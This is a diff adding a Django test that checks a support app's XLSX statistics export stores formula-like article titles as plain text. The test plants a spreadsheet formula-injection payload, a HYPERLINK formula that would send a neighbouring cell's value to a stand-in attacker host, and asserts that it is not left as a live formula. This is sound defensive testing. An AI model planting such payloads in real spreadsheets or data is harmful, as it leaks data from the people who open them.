@@ -68,3 +68,22 @@ def test_request_list_query_budget_does_not_grow(world, client_for, django_asser
         help_request(world.officers["other_a1"], subject=f"Lỗi thêm {n}")
     with django_assert_max_num_queries(8):
         assert client.get(reverse("support:request-list")).status_code == 200
+
+
+def test_figures_export_keeps_formula_like_titles_as_text(world, client_for):  # noqa: ANN001
+    from io import BytesIO
+
+    from openpyxl import load_workbook
+
+    from support import services
+    from support.tests.factories import article
+
+    request = help_request(world.officers["officer"])
+    trap = article(title='=HYPERLINK("http://evil.example/?x="&B3,"Xem")', by=world.user("trainer"))
+    services.help_request_reply(request=request, body="Xem bài", article=trap, by=world.user("admin"))
+    response = client_for("admin").get(reverse("support:stats") + "?months=6&format=xlsx")
+    assert response.status_code == 200
+    book = load_workbook(BytesIO(b"".join(response.streaming_content) if response.streaming else response.content))
+    cell = book.worksheets[3]["A2"]
+    assert cell.value == trap.title and cell.data_type == "s"  # shown as typed, never a live formula
+    assert book.worksheets[0]["A1"].font.bold
